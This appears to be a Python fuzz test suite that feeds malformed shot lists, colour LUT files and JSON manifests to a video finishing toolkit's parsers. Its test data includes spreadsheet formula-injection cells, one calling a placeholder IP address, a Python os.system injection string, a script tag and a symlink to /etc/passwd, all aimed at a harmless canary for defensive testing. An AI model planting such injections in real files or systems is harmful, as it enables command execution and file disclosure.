"""G14: shot lists, LUTs and the files of an output folder are data, whoever wrote them."""

import json
import random
from collections.abc import Callable
from pathlib import Path

import numpy as np

from finishkit.errors import FinishError
from finishkit.flags import load_flags
from finishkit.report import load_report
from finishkit.shots import open_episode
from finishkit.stages.lut import build_lut, read_cube, write_cube
from finishkit.store import Store
from finishkit.watch import watch_batch
from tests.torture.children import CANARY, run_cases
from tests.torture.outcome import Outcome, Say
from tests.torture.templates import BLOBS, PAYLOADS

NESTED = ("[" * 100_000, '{"a":' * 100_000, "[" * 100_000 + "]" * 100_000)
CELLS = (
    *PAYLOADS, f"=cmd|' /C touch {CANARY}'!A0", f'=HYPERLINK("http://192.0.2.1/{CANARY}")',
    "@SUM(1)", "+1", "-1", "<script>alert(1)</script>", "x" * 131_073, "x" * 25_000, "a\nb", '"',
    "\0", "a\0.mp4", "..", ".", "///", "🎬" * 60, "漢" * 120, "con.mp4", "a.mp4:stream", "ring",
    "link.mp4", "inner/secret.mp4", "\u2028", "\x0b", "\x85",
)  # fmt: skip


def _csv(rng: random.Random, required: str) -> bytes:
    head = ["shot", required, "scene", "characters", "prompt"]
    rng.shuffle(head)
    if rng.random() < 0.2:
        head[rng.randrange(5)] = rng.choice((required, "Shot", "", rng.choice(CELLS)[:100]))
    rows = []
    for i in range(rng.randrange(1, 4)):
        row = [f"c{i}.mp4" if h == required else rng.choice(("a", "b;c", "", "1")) for h in head]
        for _ in range(rng.choice((0, 1, 1, 2))):
            row[rng.randrange(5)] = rng.choice(CELLS)
        rows.append(row[: rng.choice((5, 5, 5, 2))] + ["more"] * rng.choice((0, 0, 0, 1)))
    quoted = rng.random() < 0.7
    ends = rng.choice(("\n", "\r\n", "\r"))
    text = ends.join(
        ",".join('"' + c.replace('"', '""') + '"' if quoted else c for c in row)
        for row in [head, *rows]
    )
    data = text.encode(rng.choice(("utf-8", "utf-8", "utf-8-sig", "utf-16")), "replace")
    kind = rng.random()
    if kind < 0.06:
        return data + b"\nx,c.mp4,1,,\n" * 60_000
    if kind < 0.1:
        return b"shot,file\n" + b"a," * 100_000
    if kind < 0.13:
        return b"," * 2_000_000
    if kind < 0.16:
        return b"\n" * 3_000_000
    return _struck(rng, data)


def _struck(rng: random.Random, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(rng.choice((0, 1, 3))):
        at = rng.randrange(len(out) + 1)
        if rng.random() < 0.5:
            out[at:at] = rng.choice(BLOBS)
        else:
            del out[at : at + rng.randrange(1, 40)]
    return bytes(out)


def _cube(rng: random.Random, good: bytes) -> bytes:
    lines = good.decode().splitlines()
    row = rng.randrange(4, len(lines))
    kind = rng.randrange(14)
    if kind < 6:
        lines[row] = rng.choice((
            "nan 0 0", "inf 0 0", "1e39 0 0", "0,5 0,5 0,5", "0.5;0.5;0.5", "0 0", "0 0 0 0",
            "1_0 0 0", "٠ ٠ ٠", "0x1 0 0", "LUT_3D_SIZE 3", "LUT_1D_SIZE 2", "9" * 300 + " 0 0",
            "\0 0 0", "a b c", f"__import__('os').system('touch {CANARY}') 0 0", "1e-400 0 0",
        ))  # fmt: skip
    elif kind < 9:
        size = rng.choice(
            ("0", "1", "-2", "256", "65", "2.5", "99999999999", "", "3 3", "٣", "nan")
        )
        lines[1] = f"LUT_3D_SIZE {size}"
    elif kind == 9:
        lines[2] = rng.choice((
            "DOMAIN_MIN 1 1 1", "DOMAIN_MIN nan 0 0", "DOMAIN_MIN 0.99999 0 0", "DOMAIN_MIN 0",
            "DOMAIN_MAX 0 0 0", "DOMAIN_MIN -64 -64 -64", "DOMAIN_MIN 1e-30 0 0",
        ))  # fmt: skip
    elif kind == 10:
        del lines[row : row + rng.randrange(1, 4)]
    elif kind == 11:
        return rng.choice((
            b"\n" * (32 * 2**20), b"\0" * (33 * 2**20), good + b"# x\n" * 400_000,
            b"LUT_3D_SIZE 65\n" + b"0 0 0\n" * 274_626, b"LUT_3D_SIZE 256\n" + b"0 0 0\n" * 1000,
            b"TITLE " + b"x" * (20 * 2**20), b"LUT_3D_SIZE 2\n" + b"0 " * 5_000_000, b"",
        ))  # fmt: skip
    return _struck(rng, "\n".join(lines).encode(rng.choice(("utf-8", "utf-8", "utf-8-sig"))))


JUNK = (None, True, -1, 1e308, 2**70, "x", [], {}, [[]], {"a": {"b": []}}, "\ud800", "a\0b",
        *PAYLOADS)  # fmt: skip


def _json(rng: random.Random, good: object) -> bytes:
    kind = rng.random()
    if kind < 0.2:
        return rng.choice((*NESTED, "", "nul", "NaN", "{", '{"a":NaN}', "9" * 5000)).encode()
    value = json.loads(json.dumps(good))
    for _ in range(rng.choice((1, 2, 4))):
        value = _replaced(rng, value)
    data = json.dumps(value).encode()
    return _struck(rng, data) if rng.random() < 0.4 else data


def _replaced(rng: random.Random, value: object) -> object:
    """Put junk somewhere into a nest of tables."""
    if isinstance(value, dict) and value and rng.random() < 0.85:
        key = rng.choice(list(value))
        return {**value, key: _replaced(rng, value[key]), **rng.choice(({}, {"extra": 1}))}
    if isinstance(value, list) and value and rng.random() < 0.7:
        at = rng.randrange(len(value))
        return [*value[:at], _replaced(rng, value[at]), *value[at + 1 :]]
    return rng.choice(JUNK)


FLAGS = {"shot_001": {"mark": "regenerate", "note": "again"}, "shot_002": {"mark": "", "note": ""}}
MANIFEST = {
    "schema_version": 2, "episode": "ep01", "planned": ["a"],
    "shots": {"a": {"state": "finished", "code": "", "text": ""}},
    "whole": {"key": "0", "shots": {"a": {"output": "a.mp4", "sha256": "0"}}},
    "entries": {"a.mp4": {"key": "0", "sha256": "0", "bytes": 1, "facts": {"frame_count": 1}}},
}  # fmt: skip
_EVENT = {"time_s": 1.0, "stage": "grade", "shot": "", "done": 0, "total": 1, "facts": {}}
EVENTS = (
    {**_EVENT, "kind": "begin", "facts": {"shots": 1, "stages": [["grade", 1]]}},
    {**_EVENT, "kind": "stage"},
    {**_EVENT, "kind": "shot", "shot": "a", "done": 1},
    {**_EVENT, "kind": "end", "facts": {"exit_code": 0}},
)
BATCH = {"pid": 1, "birth": "1", "command": ["x"], "log": "x"}


def _episode(rng: random.Random, folder: Path) -> Callable[[], object]:
    for name in ("c0.mp4", "c1.mp4", "c2.mp4"):
        (folder / name).write_bytes(b"x")
    (folder / "ring").symlink_to("ring")
    (folder / "link.mp4").symlink_to("/etc/passwd")
    (folder / "inner").symlink_to(folder.parent)
    table, required = rng.choice((("shots.csv", "file"), ("characters.csv", "character")))
    (folder / table).write_bytes(_csv(rng, required))

    def opened() -> None:
        episode = open_episode(folder)
        for shot in episode:
            # A link that lies in the folder as a clip was put there; what a list names was not.
            inside = shot.path.resolve().is_relative_to(folder.resolve())
            assert inside or table != "shots.csv", "a clip outside"
            assert len(shot.id.encode()) < 200, "no file name"
            assert "/" not in shot.id, "no file name"
            assert shot.id not in (".", ".."), "no file name"
        for one in episode.characters:
            for image in one.reference_images:
                assert image.resolve().is_relative_to(folder.resolve()), "a picture outside"

    return opened


def _lut(rng: random.Random, folder: Path) -> Callable[[], object]:
    path = folder / "a.cube"
    write_cube(path, build_lut(lambda nodes: nodes, 3))
    path.write_bytes(_cube(rng, path.read_bytes()))

    def opened() -> None:
        assert np.isfinite(read_cube(path)).all(), "no numbers"

    return opened


def _flags(rng: random.Random, folder: Path) -> Callable[[], object]:
    (folder / "flags.json").write_bytes(_json(rng, FLAGS))
    return lambda: load_flags(folder)


def _manifest(rng: random.Random, folder: Path) -> Callable[[], object]:
    path = Store(folder).manifest_path
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(_json(rng, MANIFEST))

    def opened() -> None:
        Store(folder).manifest()
        watch_batch(folder).state()

    return opened


def _events(rng: random.Random, folder: Path) -> Callable[[], object]:
    lines = [_json(rng, event) if rng.random() < 0.5 else json.dumps(event).encode()
             for event in EVENTS]  # fmt: skip
    rng.shuffle(lines) if rng.random() < 0.3 else None
    (folder / "events.jsonl").write_bytes(b"\n".join(lines) + b"\n")
    return lambda: watch_batch(folder).state()


def _report(rng: random.Random, folder: Path) -> Callable[[], object]:
    (folder / "report.json").write_bytes(_json(rng, {"schema_version": 1, "shots": [], "cuts": []}))
    return lambda: load_report(folder / "report.json")


def _batch(rng: random.Random, folder: Path) -> Callable[[], object]:
    from finishkit.watch import BATCH_FILE

    path = folder / BATCH_FILE
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(_json(rng, BATCH))
    return lambda: watch_batch(folder).state()


OPENERS: dict[str, Callable[[random.Random, Path], Callable[[], object]]] = {
    "episode": _episode, "lut": _lut, "flags": _flags, "manifest": _manifest, "events": _events,
    "report": _report, "batch": _batch,
}  # fmt: skip
ORDER = ("episode", "episode", "lut", "episode", "flags", "lut", "manifest", "episode", "events",
         "lut", "report", "batch")  # fmt: skip


def case(seed: int, index: int, folder: Path) -> str:
    rng = random.Random(f"{seed}:{index}")
    kind = ORDER[index % len(ORDER)]
    opened = OPENERS[kind](rng, folder)
    try:
        opened()
    except FinishError as error:
        said = str(error)
        if any(not c.isprintable() for c in said.replace("\n", "")):
            return f"{kind} refused: control characters in {said[:300]!r}"
        return f"{kind} refused" + (f": {len(said)} characters" if len(said) > 3000 else "")
    return f"{kind} read"


def run(count: int, seed: int, folder: Path, say: Say) -> Outcome:
    tally = run_cases("tables", count, seed, folder, limit_s=60, most_s=2, most_mb=150, say=say)
    return Outcome(
        suite="tables", promises=("G14", "G13"), trials=tally.trials,
        failures=tuple(tally.failures),
        figures={
            "kinds": dict(sorted(tally.kinds.items())),
            "slowest_s": round(tally.slowest_s, 3), "largest_mb": round(tally.largest_mb, 1),
        },
    )  # fmt: skip
